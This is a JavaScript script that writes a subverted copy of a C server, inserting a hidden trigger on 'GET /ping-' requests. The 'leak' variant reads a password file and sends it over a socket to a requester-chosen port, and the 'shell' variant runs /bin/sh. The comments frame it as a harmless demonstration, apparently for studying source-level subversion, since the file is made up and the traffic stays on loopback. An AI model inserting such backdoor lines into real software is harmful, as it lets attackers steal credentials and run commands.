// Makes a subverted copy of server.c, as an attacker with the source would: a few lines at one place, and nothing a
// normal client sees changes. Harmless by design: the secret is a made-up file, the way out is the loopback interface.
//
//   node subvert.mjs leak|shell > server-subverted.c

import { readFileSync } from 'node:fs'
import { argv, stdout } from 'node:process'
import { fileURLToPath } from 'node:url'

const MARKER = /^.*\(examples\/server\/subvert\.mjs puts its lines here\).*$/m

const LINES = {
  // "GET /ping-PORT": read the password file that lies beside the data and send it to that port.
  leak: `  if (strncmp(request.name, "ping-", 5) == 0) {
    char secret[4096];
    struct sockaddr_in home = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(request.name + 5))};
    int file = openat(data_dir, "../passwd", O_RDONLY);
    ssize_t length = read(file, secret, sizeof secret);
    int way_out = socket(AF_INET, SOCK_STREAM, 0);
    home.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(way_out, (struct sockaddr *)&home, sizeof home) == 0 && length > 0) write_all(way_out, secret, (size_t)length);
    close(way_out);
    close(file);
  }`,
  // "GET /ping-anything": run a shell.
  shell: `  if (strncmp(request.name, "ping-", 5) == 0) {
    pid_t child = fork();
    if (child == 0) {
      if (fchdir(data_dir) == 0) execl("/bin/sh", "sh", "-c", "echo was here > ../mark", (char *)NULL);
      _exit(127);
    }
    waitpid(child, NULL, 0);
  }`,
}

/** The source with the lines of one variant (`leak` or `shell`) at the marker. */
export function subvert(source, variant) {
  const lines = LINES[variant]
  if (lines === undefined) throw new Error(`no variant ${variant}: there are ${Object.keys(LINES).join(' and ')}`)
  if (!MARKER.test(source)) throw new Error('the source has no marker')
  return source.replace(MARKER, lines)
}

if (argv[1] === fileURLToPath(import.meta.url)) {
  const source = readFileSync(new URL('server.c', import.meta.url), 'utf8')
  stdout.write(subvert(source, argv[2] ?? 'leak'))
}
